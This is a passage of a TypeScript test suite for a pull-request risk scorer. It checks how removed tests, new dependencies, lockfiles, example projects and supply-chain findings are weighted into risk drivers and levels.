    const removed = (path: string, body: string[]) => makeFile(path, { status: 'removed', additions: 0, deletions: body.length, patch: [`@@ -1,${body.length} +0,0 @@`, ...body.map((l) => `-${l}`)].join('\n') });
    const support = ['package com.tschuchort.compiletesting', '', '// Once it works upstream, we should drop this copy.', 'private class KspTestExtension(', '  options: KspOptions,', ') : AbstractKotlinSymbolProcessingExtension(options) {', '  override fun loadProviders() = loadedProviders', '}'];
    expect(ids([removed('kotlin/codegen/src/test/java/com/tschuchort/compiletesting/Ksp.kt', support)])).not.toContain('tests-deleted');
    expect(ids([removed('core/src/testFixtures/java/org/acme/FakeClock.java', ['package org.acme;', 'public final class FakeClock {', '  long now;', '}'])])).not.toContain('tests-deleted');
    // Outside a Maven or Gradle test root (a test folder of its own layout): weighed as before.
    expect(ids([removed('test/java/org/acme/FakeClock.java', ['package org.acme;', 'public final class FakeClock {', '  long now;', '}'])])).toContain('tests-deleted');
    expect(ids([removed('core/src/test/java/org/acme/RelayTest.java', ['class RelayTest {', '  @Test void relays() {}', '}'])])).toContain('tests-deleted');
    expect(ids([removed('core/src/test/java/org/acme/Relays.java', ['class Relays {', '  @Test void relays() {}', '}'])])).toContain('tests-deleted');
    expect(ids([removed('core/src/test/kotlin/org/acme/Matchers.kt', ['fun assertRelayed(r: Relay) {', '  assertThat(r.sent).isTrue()', '}'])])).toContain('tests-deleted');
    expect(ids([removed('core/src/test/kotlin/org/acme/build.gradle.kts', ['plugins { kotlin("jvm") }'])])).toContain('tests-deleted');
    expect(ids([removed('core/src/test/resources/inputs/Processed.java', ['package inputs;', 'class Processed {}'])])).toContain('tests-deleted');
    expect(ids([removed('test/fixtures/nested.js', ["import {run} from '../../index.js';", 'await run();'])])).toContain('tests-deleted');
  });

  it("does not weigh a Python test folder's helper module that defines no test and checks nothing (httpx's tests/utils.py dropped with the log-level variable it set); a test module, conftest.py, or a helper that asserts still weighs", () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string, body: string[]) => makeFile(path, { status: 'removed', additions: 0, deletions: body.length, patch: [`@@ -1,${body.length} +0,0 @@`, ...body.map((l) => `-${l}`)].join('\n') });
    const helper = ['import contextlib', 'import os', '', '', '@contextlib.contextmanager', 'def debug_env(level: str):', '    os.environ["WIDGET_DEBUG"] = level', '    try:', '        yield', '    finally:', '        del os.environ["WIDGET_DEBUG"]'];
    expect(ids([removed('tests/utils.py', helper)])).not.toContain('tests-deleted');
    expect(ids([removed('src/widget/tests/compat.py', ['import sys', '', 'PY312 = sys.version_info >= (3, 12)'])])).not.toContain('tests-deleted');
    // Named as runners collect tests, or pytest's conftest: weighed as before.
    expect(ids([removed('tests/test_env.py', helper)])).toContain('tests-deleted');
    expect(ids([removed('tests/env_test.py', helper)])).toContain('tests-deleted');
    expect(ids([removed('widget/tests/tests.py', helper)])).toContain('tests-deleted');
    expect(ids([removed('tests/conftest.py', helper)])).toContain('tests-deleted');
    // A helper that holds a test, a fixture or a check.
    expect(ids([removed('tests/utils.py', [...helper, '', 'def test_debug_env():', '    pass'])])).toContain('tests-deleted');
    expect(ids([removed('tests/helpers.py', ['def assert_ok(response):', '    assert response.status_code == 200'])])).toContain('tests-deleted');
    expect(ids([removed('tests/helpers.py', ['import pytest', '', '@pytest.fixture', 'def client():', '    return make_client()'])])).toContain('tests-deleted');
    expect(ids([removed('tests/helpers.py', ['class TestHelpers:', '    pass'])])).toContain('tests-deleted');
    // Another language's helper in a test folder (mocha runs every file of test/): weighed as before.
    expect(ids([removed('test/utils.js', ['exports.env = (level) => { process.env.DEBUG = level; };'])])).toContain('tests-deleted');
  });

  it("does not weigh a test named <object>.<member> when the PR removes that member from the program (express's 'Remove req.param()' with test/req.param.js); a member kept, assigned again or moved with its body still weighs", () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const test = (name: string) => makeFile(`test/${name}.js`, { status: 'removed', additions: 0, deletions: 5, patch: ['@@ -1,5 +0,0 @@', "-var express = require('../');", "-describe('req', function () {", "-  it('reads the value', function (done) {", '-    done();', '-  });', '-});'].join('\n') });
    const body = ['  var params = this.params || {};', '  if (params[name] != null) return params[name];', '  return defaultValue;', '};'];
    const lib = (removed: string[], added: string[] = []) => makeFile('lib/request.js', { deletions: removed.length, additions: added.length, patch: ['@@ -200,8 +200,3 @@ defineGetter(req, \'query\', function query(){', ' ', ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`), ' /**'].join('\n') });
    expect(ids([test('req.param'), lib(['req.param = function param(name, defaultValue) {', ...body])])).not.toContain('tests-deleted');
    expect(ids([test('app.del'), makeFile('lib/application.js', { deletions: 1, additions: 0, patch: ['@@ -300,2 +300,1 @@', " app.all = function all(path) {", "-app.del = deprecate.function(app.delete, 'app.del: Use app.delete instead');"].join('\n') })])).not.toContain('tests-deleted');
    // Another member removed, the same one assigned again, or its body moved under another name.
    expect(ids([test('req.param'), lib(['req.params = function params() {', ...body])])).toContain('tests-deleted');
    expect(ids([test('req.param'), lib(['req.param = function param(name, defaultValue) {', ...body], ['req.param = function param(name) {', '  return this.params[name];', '};'])])).toContain('tests-deleted');
    expect(ids([test('req.param'), lib(['req.param = function param(name, defaultValue) {', ...body], ['req.getParam = function getParam(name, defaultValue) {', ...body])])).toContain('tests-deleted');
    expect(ids([test('req.param')])).toContain('tests-deleted');
  });

  it("does not weigh a test named <module>.<method> when the PR removes that method from the module's class (commander's help.wrap.test.js when lib/help.js drops Help's wrap()); a method kept, defined again or moved with its body, or a control statement, still weighs", () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const test = (name: string) => makeFile(`tests/${name}.test.js`, { status: 'removed', additions: 0, deletions: 6, patch: ['@@ -1,6 +0,0 @@', "-const commander = require('../');", "-test('when string fits into width then returns input', () => {", "-  const helper = new commander.Help();", '-  expect(helper.wrap(text, 50, 3)).toEqual(text);', '-});', '-'].join('\n') });
    const body = ['    const indents = \' \'.repeat(indent);', '    if (str.match(/[\\n]\\s+/)) return str;', '    const columnWidth = width - indent;', '    const lines = str.split(\'\\n\').map((line) => line.trimEnd());', '    return lines.join(\'\\n\' + indents);', '  }'];
    const lib = (removed: string[], added: string[] = [], path = 'lib/help.js') => makeFile(path, { deletions: removed.length, additions: added.length, patch: ['@@ -300,9 +300,3 @@ class Help {', ' ', ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`), ' }'].join('\n') });
    expect(ids([test('help.wrap'), lib(['  wrap(str, width, indent, minColumnWidth = 40) {', ...body], ['  boxWrap(str, width) {', '    return wrapLines(str, width).join(\'\\n\');', '  }'])])).not.toContain('tests-deleted');
    expect(ids([test('help.wrap'), lib(['  static async wrap(str: string, width: number): Promise<string> {', ...body], [], 'src/help.ts')])).not.toContain('tests-deleted');
    // Another method removed, the same one defined again, its body moved under another name, another module's method, or a block that only looks like one.
    expect(ids([test('help.wrap'), lib(['  unwrap(str, width, indent, minColumnWidth = 40) {', ...body])])).toContain('tests-deleted');
    expect(ids([test('help.wrap'), lib(['  wrap(str, width, indent, minColumnWidth = 40) {', ...body], ['  wrap(str, width) {', '    return wrapLines(str, width).join(\'\\n\');', '  }'])])).toContain('tests-deleted');
    expect(ids([test('help.wrap'), lib(['  wrap(str, width, indent, minColumnWidth = 40) {', ...body], ['  boxWrap(str, width, indent, minColumnWidth = 40) {', ...body])])).toContain('tests-deleted');
    expect(ids([test('help.wrap'), lib(['  wrap(str, width, indent, minColumnWidth = 40) {', ...body], [], 'lib/command.js')])).toContain('tests-deleted');
    expect(ids([test('help.if'), lib(['  if (width < minColumnWidth) {', ...body])])).toContain('tests-deleted');
  });

  it("does not weigh a test folder's .gitkeep (or .keep, .gitignore) replaced by its first test; a test deleted beside it still weighs", () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string, deletions = 0) => makeFile(path, { status: 'removed', additions: 0, deletions });
    const firstTest = makeFile('modules/records/src/test/java/org/acme/records/RecordSpyTest.java', { status: 'added', additions: 30, deletions: 0 });
    expect(ids([removed('modules/records/src/test/java/org/acme/records/.gitkeep'), firstTest])).not.toContain('tests-deleted');
    expect(ids([removed('spec/fixtures/.keep'), removed('tests/output/.gitignore', 2)])).not.toContain('tests-deleted');
    expect(ids([removed('modules/records/src/test/java/org/acme/records/.gitkeep'), removed('modules/records/src/test/java/org/acme/records/OldTest.java', 40)])).toContain('tests-deleted');
    expect(ids([removed('tests/gitkeep_test.py', 12)])).toContain('tests-deleted');
  });

  it('does not weigh the tests and templates of an integration whose dependency the PR removes; other deleted tests still weigh', () => {
    const removed = (path: string) => makeFile(path, { status: 'removed', additions: 0, deletions: 20 });
    const gem = (name: string) => ({ ecosystem: 'rubygems', name, version: null, manifest: 'Gemfile', dev: false, source: 'registry' as const });
    const ids = (files: ReturnType<typeof makeFile>[], names: string[]) =>
      risk(makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('Gemfile', { additions: 0, deletions: 1 }), makeFile('lib/app/templates.rb', { additions: 0, deletions: 4 }), ...files], checkRuns: green }), makeSupplyChain({ removed_dependencies: names.map(gem) })).drivers.map((d) => d.id);
    // A web framework drops a template engine: its test and the templates the test rendered.
    expect(ids([removed('test/radius_test.rb'), removed('test/views/hello.radius'), removed('test/views/layout2.radius')], ['radius'])).not.toContain('tests-deleted');
    // coffee-script's tests are named for its first word.
    expect(ids([removed('test/coffee_test.rb'), removed('test/views/hello.coffee')], ['coffee-script'])).not.toContain('tests-deleted');
    // Another test deleted beside them still weighs; so does a test whose dependency stays.
    expect(ids([removed('test/radius_test.rb'), removed('test/routing_test.rb')], ['radius'])).toContain('tests-deleted');
    expect(ids([removed('test/radius_test.rb')], [])).toContain('tests-deleted');
    // A fixture whose extension names a removed package, with no deleted test named for it, still weighs.
    expect(ids([removed('test/fixtures/config.json')], ['json'])).toContain('tests-deleted');
    // A first word of three letters does not stand for the package (`net` of `net-ssh`), nor a test's name without its test affix.
    expect(ids([removed('test/net_test.rb')], ['net-ssh'])).toContain('tests-deleted');
    expect(ids([removed('test/integration/radius.rb')], ['radius'])).toContain('tests-deleted');
    // A plural package's test is named in the singular (Starlette's "Remove `databases` from tests": tests/test_database.py); calib37.
    expect(ids([removed('tests/test_database.py')], ['databases'])).not.toContain('tests-deleted');
    expect(ids([removed('tests/test_database.py')], [])).toContain('tests-deleted');
    // Too short a stem once the s goes, or a double s: no singular.
    expect(ids([removed('tests/test_gles.py')], ['gless'])).toContain('tests-deleted');
    expect(ids([removed('tests/test_glas.py')], ['glass'])).toContain('tests-deleted');
    expect(ids([removed('tests/test_rule.py')], ['rules'])).toContain('tests-deleted');
  });

  it("lets a maintainer's routine change stay low beside new packages that only test or example projects list, not beside the package's own (calib42)", () => {
    // Modeled on a packaging library's refactor that adds a sample project its tests parse.
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('src/pkg/factory.py', { additions: 700, deletions: 500 }), makeFile('tests/fixtures/sample_project/pyproject.toml', { status: 'added', additions: 30, deletions: 0 })], checkRuns: green });
    const dep = (name: string, manifest: string) => ({ ecosystem: 'pypi', name, version: '^1.0', manifest, dev: true, source: 'registry' as const });
    const names = ['cleo', 'pendulum', 'tomlkit', 'mkdocs', 'coverage', 'pre-commit'];
    const fixture = risk(snapshot, makeSupplyChain({ new_dependencies: names.map((n) => dep(n, 'tests/fixtures/sample_project/pyproject.toml')) }));
    expect(fixture.drivers.map((d) => [d.id, d.weight])).toEqual([['size', 0.2], ['new-dependencies', 0.1]]);
    expect(fixture.score).toBeGreaterThanOrEqual(0.25);
    expect(fixture.level).toBe('low');
    // The same packages in the package's own manifest, or one of them there: medium.
    expect(risk(snapshot, makeSupplyChain({ new_dependencies: names.map((n) => dep(n, 'pyproject.toml')) })).level).toBe('medium');
    expect(risk(snapshot, makeSupplyChain({ new_dependencies: [...names.map((n) => dep(n, 'tests/fixtures/sample_project/pyproject.toml')), dep('cleo', 'pyproject.toml')] })).level).toBe('medium');
    // A first contribution gets no such cap.
    const newcomer = makeSnapshot({ authorAssociation: 'FIRST_TIME_CONTRIBUTOR', priorPrs: { alice: { total: 1, merged: 0 } }, files: snapshot.files, checkRuns: green });
    expect(risk(newcomer, makeSupplyChain({ new_dependencies: names.map((n) => dep(n, 'tests/fixtures/sample_project/pyproject.toml')) })).level).toBe('medium');
  });

  it("weighs an action or image that only the repository's CI runs as development, and an action's own action.yml as runtime", () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('.github/workflows/check-pr.yml')], checkRuns: green });
    const dep = (ecosystem: string, name: string, manifest: string) => ({ ecosystem, name, version: 'v6', manifest, dev: false, source: 'registry' as const });
    const ci = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('github-actions', 'actions/checkout', '.github/workflows/check-pr.yml'), dep('docker', 'postgres', '.github/actions/db/action.yml')] }));
    const newDeps = (r: typeof ci) => r.drivers.filter((d) => d.id === 'new-dependencies');
    expect(newDeps(ci).map((d) => d.weight)).toEqual([0.04]);
    expect(newDeps(ci)[0]!.detail).toContain('2 new dependencies (0 runtime, 2 development)');
    // A composite action's own metadata, in an action's repository, is what its users run.
    const shipped = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('github-actions', 'actions/cache', 'action.yml'), dep('github-actions', 'acme/setup', 'restore/action.yml')] }));
    expect(newDeps(shipped).map((d) => d.weight)).toEqual([0.1]);
  });

  it('lets trusted-routine pass new actions only when every one is added by a workflow the rules found clean', () => {
    const driver = (id: string, weight: number) => ({ id, title: id, detail: id, weight, floor: null, evidence: [] });
    const drivers = [driver('sensitive-paths', 0.35), driver('new-dependencies', 0.02)];
    const maintainer = { trust_level: 'high' } as Parameters<typeof trustedRoutine>[1];
    const ci = '.github/workflows/ci.yml';
    const clean = () => new Set([ci]);
    expect(trustedRoutine(drivers, maintainer, [ci], clean, false, [ci])).toBe(true);
    // Not clean (an action of an unknown account, a new file), not all actions, or another file's action: the driver keeps it off.
    expect(trustedRoutine(drivers, maintainer, [ci], () => new Set(), false, [ci])).toBe(false);
    expect(trustedRoutine(drivers, maintainer, [ci], clean, false, null)).toBe(false);
    expect(trustedRoutine(drivers, maintainer, [ci], clean, false, ['.github/workflows/release.yml'])).toBe(false);
    expect(trustedRoutine(drivers, { trust_level: 'low' } as Parameters<typeof trustedRoutine>[1], [ci], clean, false, [ci])).toBe(false);
  });

  it('counts each new package once, however many requirement files list it, and as runtime when any installs it at runtime', () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('requirements/dev.txt')], checkRuns: green });
    const dep = (name: string, manifest: string, dev: boolean) => ({ ecosystem: 'pypi', name, version: '==1.0', manifest, dev, source: 'registry' as const });
    const lists = ['requirements/dev.txt', 'requirements/docs.txt', 'requirements/tests.txt', 'requirements/typing.txt'];
    const compiled = risk(snapshot, makeSupplyChain({ new_dependencies: lists.flatMap((m) => [dep('tomli', m, true), dep('zipp', m, true)]) }));
    expect(compiled.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.04]]);
    expect(compiled.drivers[0]!.detail).toContain('2 new dependencies (0 runtime, 2 development)');
    const mixed = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('Tomli', 'requirements.txt', false), dep('tomli', 'requirements/dev.txt', true)] }));
    expect(mixed.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.05]]);
  });

  it('weighs a runtime package only a lockfile lists (brought in by one the PR declares) as a development one: 0.05 a declared package, 0.02 each of the rest', () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('go.mod'), makeFile('go.sum')], checkRuns: green });
    const dep = (name: string, manifest: string) => ({ ecosystem: 'go', name, version: 'v1.0.0', manifest, dev: false, source: 'registry' as const });
    const modules = ['golang.org/x/text', 'golang.org/x/sys', 'github.com/mattn/go-isatty', 'github.com/mattn/go-colorable', 'github.com/rivo/uniseg'];
    const added = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('github.com/fatih/color', 'go.mod'), dep('github.com/fatih/color', 'go.sum'), ...modules.map((m) => dep(m, 'go.sum'))] }));
    expect(added.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.15]]);
    expect(added.drivers[0]!.detail).toContain('6 new dependencies (6 runtime, 5 of them only in a lockfile, 0 development)');
    // Six declared ones weigh the cap.
    const declared = risk(snapshot, makeSupplyChain({ new_dependencies: ['a', 'b', 'c', 'd', 'e', 'f'].map((n) => dep(`example.com/${n}`, 'go.mod')) }));
    expect(declared.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.3]]);
  });

  it("weighs the packages that only example projects list at most 0.1 together; one the library's lockfile lists too weighs as before", () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('examples/Cargo.lock'), makeFile('Cargo.lock')], checkRuns: green });
    const dep = (name: string, manifest: string) => ({ ecosystem: 'cargo', name, version: '1.0.0', manifest, dev: manifest.startsWith('examples/'), source: 'registry' as const });
    const crates = Array.from({ length: 14 }, (_, i) => `crate-${i}`);
    const refreshed = risk(snapshot, makeSupplyChain({ new_dependencies: crates.map((c) => dep(c, 'examples/Cargo.lock')) }));
    expect(refreshed.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.1]]);
    expect(refreshed.drivers[0]!.detail).toContain('14 new dependencies (0 runtime, 14 development, 14 only in example, test or documentation projects)');
    expect(refreshed.level).toBe('low');
    // Five of them in the library's own lockfile as well: 0.02 each beside the examples' 0.1.
    const shared = risk(snapshot, makeSupplyChain({ new_dependencies: [...crates.map((c) => dep(c, 'examples/Cargo.lock')), ...crates.slice(0, 5).map((c) => dep(c, 'Cargo.lock'))] }));
    expect(shared.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.2]]);
  });

  it("weighs low findings that only example, test or documentation projects' lockfiles or manifests have at half (0.05); one in the library's own lockfile, or in an example's code, weighs as before", () => {
    // Modeled on a web framework's "update examples dep": examples/Cargo.lock refreshed alone, a transitive crate moved back in it.
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('examples/Cargo.lock'), makeFile('Cargo.lock'), makeFile('examples/todos/src/main.rs')], checkRuns: green });
    const at = (id: string, path: string) => makeTestFinding({ id, severity: 'low', path, line: null });
    const examplesOnly = risk(snapshot, makeSupplyChain({ findings: [at('lockfile-without-manifest', 'examples/Cargo.lock'), at('dependency-downgrade', 'examples/Cargo.lock')] }));
    expect(examplesOnly.drivers.map((d) => [d.id, d.weight]).sort()).toEqual([
      ['finding:dependency-downgrade', 0.05],
      ['finding:lockfile-without-manifest', 0.05],
    ]);
    expect(examplesOnly.level).toBe('low');
    expect(examplesOnly.drivers[0]!.detail).toMatch(/^low severity, only in example, test or documentation projects: /);
    // The library's own lockfile as well: the finding weighs 0.1.
    const both = risk(snapshot, makeSupplyChain({ findings: [at('lockfile-without-manifest', 'examples/Cargo.lock'), at('lockfile-without-manifest', 'Cargo.lock')] }));
    expect(both.drivers.map((d) => [d.id, d.weight])).toEqual([['finding:lockfile-without-manifest', 0.1]]);
    // A low finding on an example's code is not about what it installs: 0.1.
    const code = risk(snapshot, makeSupplyChain({ findings: [at('suspicious-network-endpoint', 'examples/todos/src/main.rs')] }));
    expect(code.drivers.map((d) => [d.id, d.weight])).toEqual([['finding:suspicious-network-endpoint', 0.1]]);
    // A medium one in an example's lockfile keeps its weight and floor.
    const medium = risk(snapshot, makeSupplyChain({ findings: [makeTestFinding({ id: 'lockfile-integrity-changed', severity: 'medium', path: 'examples/Cargo.lock', line: null })] }));
    expect(medium.drivers.map((d) => [d.id, d.weight, d.floor])).toEqual([['finding:lockfile-integrity-changed', 0.3, 'medium']]);
  });

  it("does not weigh a new dependency on the repository owner's own package (chi's examples on github.com/go-chi/…); another publisher's beside it weighs as before", () => {
    const snapshot = makeSnapshot({ owner: 'go-chi', authorAssociation: 'OWNER', files: [makeFile('_examples/rest/go.mod', { status: 'added' })], checkRuns: green });
    const dep = (ecosystem: string, name: string, manifest = 'go.mod') => ({ ecosystem, name, version: 'v1.0.0', manifest, dev: false, source: 'registry' as const });
    const own = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('go', 'github.com/go-chi/render'), dep('go', 'github.com/Go-Chi/docgen'), dep('go', 'github.com/go-chi/chi/v5', '_examples/rest/go.mod')] }));
    expect(own.drivers.map((d) => d.id)).not.toContain('new-dependencies');
    const mixed = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('go', 'github.com/go-chi/render'), dep('go', 'github.com/ajg/form')] }));
    expect(mixed.drivers.map((d) => [d.id, d.weight, d.detail])).toEqual([['new-dependencies', 0.05, "1 new dependency (1 runtime, 0 development): github.com/ajg/form; not counted: 1 of the repository owner's own."]]);
    // Another account's module, or a name that only starts like the owner's, is another publisher.
    const other = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('go', 'github.com/go-chi-fork/render'), dep('npm', '@go-chi-tools/x', 'package.json')] }));
    expect(other.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.1]]);
    // The owner's name from a git source is any commit of the fork network: weighed.
    const fromGit = risk(snapshot, makeSupplyChain({ new_dependencies: [{ ...dep('npm', '@go-chi/render', 'package.json'), source: 'git' as const }] }));
    expect(fromGit.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.05]]);
  });

  it('does not weigh a new Maven or Gradle artifact of a group that the base of a changed pom.xml or build.gradle depends on (a framework\'s new starters); another group weighs as before (2026-12-01)', () => {
    const pom = (deps: string[]) => `<project><modelVersion>4.0.0</modelVersion><groupId>org.example</groupId><artifactId>clinic</artifactId><dependencies>${deps.map((d) => { const [g, a] = d.split(':'); return `<dependency><groupId>${g}</groupId><artifactId>${a}</artifactId></dependency>`; }).join('')}</dependencies></project>`;
    const base = pom(['io.acmeframework.boot:acme-boot-starter-web', 'com.h2database:h2']);
    const head = pom(['io.acmeframework.boot:acme-boot-starter-webmvc', 'io.acmeframework.boot:acme-boot-starter-webmvc-test', 'com.h2database:h2', 'org.othervendor:widgets']);
    const gradleBase = "dependencies {\n  implementation 'io.acmeframework.boot:acme-boot-starter-web'\n}\n";
    const snapshot = makeSnapshot({ files: [makeFile('pom.xml'), makeFile('build.gradle')], contents: [{ path: 'pom.xml', base, head }, { path: 'build.gradle', base: gradleBase, head: gradleBase }], checkRuns: green });
    const dep = (ecosystem: string, name: string, manifest: string, dev = false) => ({ ecosystem, name, version: null, manifest, dev, source: 'registry' as const });
    const starters = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('maven', 'io.acmeframework.boot:acme-boot-starter-webmvc', 'pom.xml'), dep('maven', 'io.acmeframework.boot:acme-boot-starter-webmvc-test', 'pom.xml', true), dep('gradle', 'io.acmeframework.boot:acme-boot-starter-webmvc', 'build.gradle')] }));
    expect(starters.drivers.map((d) => d.id)).not.toContain('new-dependencies');
    const mixed = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('maven', 'io.acmeframework.boot:acme-boot-starter-webmvc', 'pom.xml'), dep('maven', 'org.othervendor:widgets', 'pom.xml')] }));
    expect(mixed.drivers.map((d) => [d.id, d.weight, d.detail])).toEqual([['new-dependencies', 0.05, '1 new dependency (1 runtime, 0 development): org.othervendor:widgets; not counted: 1 of Maven groups the project already depends on.']]);
    // A group that only starts like a known one, a known group's name in another ecosystem, or a git source is weighed.
    const other = risk(snapshot, makeSupplyChain({ new_dependencies: [dep('maven', 'io.acmeframework.bootx:starter', 'pom.xml'), dep('maven', 'io.acmeframework:core', 'pom.xml'), dep('npm', 'io.acmeframework.boot:x', 'package.json')] }));
    expect(other.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.15]]);
    const fromGit = risk(snapshot, makeSupplyChain({ new_dependencies: [{ ...dep('maven', 'io.acmeframework.boot:acme-boot-starter-webmvc', 'pom.xml'), source: 'git' as const }] }));
    expect(fromGit.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.05]]);
    // Without the base manifests' contents nothing is known of the project's groups.
    const unread = risk(makeSnapshot({ files: [makeFile('pom.xml')], checkRuns: green }), makeSupplyChain({ new_dependencies: [dep('maven', 'io.acmeframework.boot:acme-boot-starter-webmvc', 'pom.xml')] }));
    expect(unread.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.05]]);
  });

  it("weighs the packages that only a lockfile the PR adds lists at most 0.1 together (a project's first lockfile); a package a manifest declares, or one of a lockfile the base had, weighs as before", () => {
    const dep = (name: string, manifest: string) => ({ ecosystem: 'pypi', name, version: '1.0.0', manifest, dev: false, source: 'registry' as const });
    const packages = Array.from({ length: 20 }, (_, i) => `package-${i}`);
    // Modeled on a settings library's "Introduce uv": uv.lock added, pyproject.toml unchanged.
    const first = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('uv.lock', { status: 'added' }), makeFile('Makefile')], checkRuns: green });
    const pinned = risk(first, makeSupplyChain({ new_dependencies: packages.map((p) => dep(p, 'uv.lock')) }));
    expect(pinned.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.1]]);
    expect(pinned.drivers[0]!.detail).toContain('20 only in a lockfile this PR introduces');
    expect(pinned.level).toBe('low');
    // One declared in pyproject.toml beside the new lockfile: 0.05 for it, the rest as before.
    const declared = risk(makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('uv.lock', { status: 'added' }), makeFile('pyproject.toml')], checkRuns: green }), makeSupplyChain({ new_dependencies: [dep('package-0', 'pyproject.toml'), ...packages.map((p) => dep(p, 'uv.lock'))] }));
    expect(declared.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.15]]);
    // The same packages in a lockfile the base already had: 0.02 each, the cap.
    const updated = risk(makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('uv.lock')], checkRuns: green }), makeSupplyChain({ new_dependencies: packages.map((p) => dep(p, 'uv.lock')) }));
    expect(updated.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.3]]);
  });

  it('weighs the development packages that only a lockfile the base had lists at most 0.1 together; declared ones and runtime ones weigh as before', () => {
    const dep = (name: string, manifest: string, dev: boolean) => ({ ecosystem: 'npm', name, version: '1.0.0', manifest, dev, source: 'registry' as const });
    const tree = Array.from({ length: 27 }, (_, i) => `tree-${i}`);
    // Modeled on a web framework's "adds updated codecov": c8 in devDependencies, its 27 packages in package-lock.json.
    const tool = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('package.json'), makeFile('package-lock.json')], checkRuns: green });
    const added = risk(tool, makeSupplyChain({ new_dependencies: [dep('c8', 'package.json', true), dep('c8', 'package-lock.json', true), ...tree.map((p) => dep(p, 'package-lock.json', true))] }));
    expect(added.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.12]]);
    expect(added.drivers[0]!.detail).toContain('28 new dependencies (0 runtime, 28 development, 27 of them only in a lockfile)');
    // The lockfile refreshed alone (':arrow_up: dependencies'): its 17 new development packages are low.
    const refresh = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('package-lock.json')], checkRuns: green });
    const refreshed = risk(refresh, makeSupplyChain({ new_dependencies: tree.slice(0, 17).map((p) => dep(p, 'package-lock.json', true)) }));
    expect(refreshed.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.1]]);
    expect(refreshed.level).toBe('low');
    // The same packages installed at runtime: 0.02 each, the cap.
    const runtime = risk(refresh, makeSupplyChain({ new_dependencies: tree.slice(0, 17).map((p) => dep(p, 'package-lock.json', false)) }));
    expect(runtime.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.3]]);
    // Development packages package.json declares: 0.02 each, the cap.
    const declared = risk(tool, makeSupplyChain({ new_dependencies: tree.slice(0, 17).flatMap((p) => [dep(p, 'package.json', true), dep(p, 'package-lock.json', true)]) }));
    expect(declared.drivers.map((d) => [d.id, d.weight])).toEqual([['new-dependencies', 0.3]]);
  });

  it("lets a maintainer's lockfile refresh stay low beside development packages only the lockfile lists; a runtime or declared one, a newcomer or a failed check keeps it medium (calib56)", () => {
    // Modeled on a CLI library's 'update dev dependencies': uv.lock alone (`uv lock --upgrade`) with 5
    // new development packages, setup-uv moved a major, ruff's pre-commit hook moved.
    // (The workflow and pre-commit files, read clean in the real PR, are left out here.)
    const files = [makeFile('uv.lock')];
    const dep = (name: string, dev = true, manifest = 'uv.lock', source: 'registry' | 'git' = 'registry') => ({ ecosystem: 'pypi', name, version: '1.0.0', manifest, dev, source });
    const locked = ['librt', 'python-discovery', 'roman-numerals', 'pathspec', 'tomli-w'].map((n) => dep(n));
    const action = { ecosystem: 'github-actions', name: 'astral-sh/setup-uv', version: 'v8.0.0', manifest: '.github/workflows/tests.yaml', dev: false, source: 'registry' as const, from_version: 'v7.3.1', to_version: 'v8.0.0', direction: 'upgrade' as const };
    const findings = [makeTestFinding({ id: 'lockfile-without-manifest', severity: 'low', path: 'uv.lock', line: null }), makeTestFinding({ id: 'pre-commit-rev-moved', severity: 'info', path: '.pre-commit-config.yaml' })];
    const chain = (deps: ReturnType<typeof dep>[]) => makeSupplyChain({ findings, new_dependencies: deps, updated_dependencies: [action] });
    const maintainer = makeSnapshot({ authorAssociation: 'MEMBER', files, checkRuns: green });
    const refresh = risk(maintainer, chain(locked));
    expect(refresh.drivers.find((d) => d.id === 'new-dependencies')?.weight).toBe(0.1);
